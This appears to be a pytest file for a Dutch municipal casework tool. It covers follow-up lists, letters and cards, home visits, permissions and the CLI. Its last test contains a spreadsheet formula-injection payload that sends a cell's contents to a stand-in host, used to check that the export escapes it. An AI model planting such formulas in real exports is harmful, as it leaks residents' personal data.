"""What follows the plan (issue 14): the follow-up list, letters and cards, home visits, and
the command line of it (follow-up list, letters, find)."""

from __future__ import annotations

import json
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from app.cli import main
from app.models import Attempt, Case
from app.models.enums import Channel, Outcome, Role
from app.services import admin, follow_up, settings
from app.services.context import AppContext
from app.services.errors import InvalidInput, PermissionDenied
from app.services.outcomes import OutcomeInput, record_outcome
from tests.casework_factory import actor_of, make_case, make_user

MONDAY = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)


def _pages(path: Path) -> int:
    return len(re.findall(rb"/Type\s*/Page(?![s\w])", path.read_bytes()))


def _not_reached(ctx: AppContext, session, **kwargs) -> Case:  # type: ignore[no-untyped-def]
    case = make_case(session, opened_at=MONDAY - timedelta(days=1), **kwargs)
    at = MONDAY
    while case.status == "open":
        record_outcome(session, ctx, case, OutcomeInput(outcome=Outcome.NO_ANSWER, at=at))
        at += timedelta(days=1)
    return case


@pytest.fixture
def cases(ctx: AppContext) -> dict[str, int]:
    with ctx.db.begin() as session:
        b = _not_reached(ctx, session, last_name="Bakker", first_name="Bea", wijk="Zijlweg")
        a = _not_reached(ctx, session, last_name="Aydin", first_name=None, wijk="Oude Stad")
        reached = make_case(session, opened_at=MONDAY, last_name="Claes")
        record_outcome(
            session, ctx, reached, OutcomeInput(outcome=Outcome.REACHED_NO_HELP_NEEDED, at=MONDAY)
        )
        waiting = make_case(session, opened_at=MONDAY, last_name="Dekker", phones=())
        return {"b": b.id, "a": a.id, "reached": reached.id, "waiting": waiting.id}


def test_the_list_holds_who_the_plan_did_not_reach_sorted_by_wijk_and_street(
    ctx: AppContext, cases: dict[str, int]
) -> None:
    items = follow_up.follow_up_list(ctx)
    assert [i.case_id for i in items] == [cases["a"], cases["waiting"], cases["b"]]
    first = items[0]
    assert (first.channel, first.reason, first.name, first.wijk) == (
        "letter",
        "not_reached",
        "Aydin",
        "Oude Stad",
    )
    assert items[1].reason == "no_phone"
    assert first.reference.startswith("SIG-")
    assert "bsn" not in json.dumps(first.to_json()).lower()
    assert follow_up.follow_up_list(ctx, Channel.HOME_VISIT) == []


def test_letters_are_filled_printed_and_recorded_once(
    ctx: AppContext, cases: dict[str, int], tmp_path: Path
) -> None:
    batch = follow_up.letters(ctx, Channel.LETTER)
    assert [b.case_id for b in batch] == [cases["a"], cases["waiting"], cases["b"]]
    bakker = batch[2].text
    assert "Bea Bakker" in bakker and "Gemeente Haarlem" in bakker
    assert "023 511 5115" in bakker and "Kenmerk: SIG-" in bakker
    english = follow_up.letters(ctx, Channel.LETTER, language="en")[2].text
    assert "Dear resident" in english and "24 November 2026" in english
    assert "24 november 2026" in bakker

    from app.ui.letters_pdf import write_letters_pdf

    pdf = write_letters_pdf(batch, tmp_path / "brieven.pdf")
    assert pdf.read_bytes().startswith(b"%PDF")
    assert _pages(pdf) == 3  # one page per resident
    five = [follow_up.Letter(i, f"Kaartje {i}") for i in range(5)]
    assert _pages(write_letters_pdf(five, tmp_path / "k.pdf", cards=True)) == 2  # four a page

    ids = [b.case_id for b in batch]
    assert follow_up.mark_sent(ctx, Channel.LETTER, ids) == 3
    assert follow_up.mark_sent(ctx, Channel.LETTER, ids) == 0  # printing twice: recorded once
    with ctx.db.read() as session:
        letters = session.scalars(
            select(Attempt).where(Attempt.channel == "letter").order_by(Attempt.case_id)
        ).all()
        assert len(letters) == 3
        assert {(a.outcome, a.is_contact, a.counts_as_attempt) for a in letters} == {
            ("sent", False, False)
        }
        # The closed cases stay closed; the waiting one stays open and out of the queue.
        waiting = session.get(Case, cases["waiting"])
        assert waiting is not None and (waiting.status, waiting.needs_phone) == ("open", True)
    assert follow_up.letters(ctx, Channel.LETTER) == []
    assert [i.sent_on for i in follow_up.follow_up_list(ctx)] == [date(2026, 11, 24)] * 3


def test_a_template_with_an_unknown_field_is_refused_with_its_name(ctx: AppContext) -> None:
    with pytest.raises(InvalidInput, match="'bsn'"):
        admin.put_setting(ctx, "letter_template", "Beste {naam}, uw BSN is {bsn}.")
    with pytest.raises(InvalidInput, match="klopt niet"):
        admin.put_setting(ctx, "card_template", "Bel {telefoon")
    admin.put_setting(ctx, "card_template", "Hallo {naam}, bel {telefoon}.")
    with ctx.db.read() as session:
        assert settings.get(session, "card_template") == "Hallo {naam}, bel {telefoon}."
    with pytest.raises(InvalidInput, match="letter, card, home_visit of none"):
        admin.put_setting(ctx, "follow_up_channel", "fax")


def test_home_visits_and_their_results(ctx: AppContext, cases: dict[str, int]) -> None:
    with ctx.db.begin() as session:
        settings.put(session, "follow_up_channel", "home_visit")
        visit_me = _not_reached(ctx, session, last_name="Evers", wijk="Zijlweg")
    assert [i.case_id for i in follow_up.follow_up_list(ctx, Channel.HOME_VISIT)] == [
        cases["waiting"],
        visit_me.id,
    ]
    at = ctx.clock.now() - timedelta(hours=1)
    assert follow_up.record_visit(ctx, visit_me.id, "not_at_home", at=at) == "closed"
    assert follow_up.follow_up_list(ctx, Channel.HOME_VISIT)[1].last_visit == "no_answer"
    assert follow_up.record_visit(ctx, visit_me.id, "reached_no_help_needed") == "closed"
    with ctx.db.read() as session:
        case = session.get(Case, visit_me.id)
        assert case is not None and case.close_reason == "no_help_needed"
        contacts = session.scalar(
            select(func.count())
            .select_from(Attempt)
            .where(Attempt.case_id == visit_me.id, Attempt.is_contact)
        )
        assert contacts == 1
    with pytest.raises(InvalidInput, match="onbekend"):
        follow_up.record_visit(ctx, cases["b"], "maybe")
    with pytest.raises(InvalidInput, match="toekomst"):
        follow_up.record_visit(
            ctx, cases["b"], "moved_away", at=ctx.clock.now() + timedelta(days=1)
        )


def test_an_agent_may_not_print_letters(ctx: AppContext, cases: dict[str, int]) -> None:
    with ctx.db.begin() as session:
        agent = make_user(session, "anna", Role.AGENT)
    agent_ctx = AppContext(db=ctx.db, clock=ctx.clock, actor=actor_of(agent))
    with pytest.raises(PermissionDenied):
        follow_up.letters(agent_ctx)
    with pytest.raises(PermissionDenied):
        follow_up.follow_up_list(agent_ctx)


def test_command_line(
    ctx: AppContext, cases: dict[str, int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = ctx.db.engine.url.render_as_string(hide_password=False)
    assert main(["--db", url, "follow-up", "list", "--channel", "letter"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [i["case_id"] for i in listed] == [cases["a"], cases["waiting"], cases["b"]]
    assert main(["--db", url, "follow-up", "list", "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines()[0].startswith("case_id;channel;reason;name")
    xlsx = tmp_path / "v.xlsx"
    assert main(["--db", url, "follow-up", "list", "--format", "xlsx", "-o", str(xlsx)]) == 0
    from openpyxl import load_workbook

    assert load_workbook(xlsx).sheetnames == ["Oude Stad", "Zijlweg"]
    assert (
        main(["--db", url, "follow-up", "list", "--format", "pdf", "-o", str(tmp_path / "v.pdf")])
        == 0
    )
    assert (tmp_path / "v.pdf").read_bytes().startswith(b"%PDF")
    assert main(["--db", url, "follow-up", "list", "--format", "xlsx"]) == 2
    empty = tmp_path / "leeg.pdf"
    assert (
        main(
            [
                "--db",
                url,
                "follow-up",
                "list",
                "--channel",
                "card",
                "--format",
                "pdf",
                "-o",
                str(empty),
            ]
        )
        == 0
    )
    assert not empty.exists()
    capsys.readouterr()

    pdf = tmp_path / "brieven.pdf"
    assert main(["--db", url, "letters", "-o", str(pdf), "--mark-sent"]) == 0
    out = capsys.readouterr().out
    assert "3 brieven" in out and "3 als verstuurd" in out
    assert main(["--db", url, "letters", "-o", str(tmp_path / "again.pdf"), "--mark-sent"]) == 0
    assert "geen brieven" in capsys.readouterr().err
    assert not (tmp_path / "again.pdf").exists()

    assert main(["--db", url, "find", "--phone", "06 12345678", "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert len(found["hits"]) == 3 and "bsn" not in json.dumps(found).lower()
    assert main(["--db", url, "find", "--postcode", "2011AA"]) == 2
    assert "achternaam" in capsys.readouterr().err


def test_the_xlsx_list_neutralises_formulas_and_leaves_no_partial_file(tmp_path: Path) -> None:
    """Names and streets come from the creditors' files: a name like a formula stays text
    (issue 16's safe output, also for the follow-up list), and a failed write leaves nothing."""
    from openpyxl import load_workbook

    from app.services.safe_output import OutputFailed

    hostile = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    item = follow_up.FollowUpItem(
        case_id=1,
        channel="home_visit",
        reason="not_reached",
        name=hostile,
        street="@Straat",
        house_number=3,
        house_number_suffix="",
        postcode="2011AA",
        city="Haarlem",
        wijk="Oude Stad",
        reference="S1",
        closed_on=None,
        sent_on=None,
        last_visit=None,
    )
    target = tmp_path / "v.xlsx"
    follow_up.write_xlsx([item], target)
    sheet = load_workbook(target)["Oude Stad"]
    cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
    assert "'" + hostile in cells and "'@Straat 3" in cells
    assert not any(isinstance(c, str) and c.startswith(("=", "@")) for c in cells)
    with pytest.raises(OutputFailed):
        follow_up.write_xlsx([item], tmp_path / "missing" / "v.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["v.xlsx"]
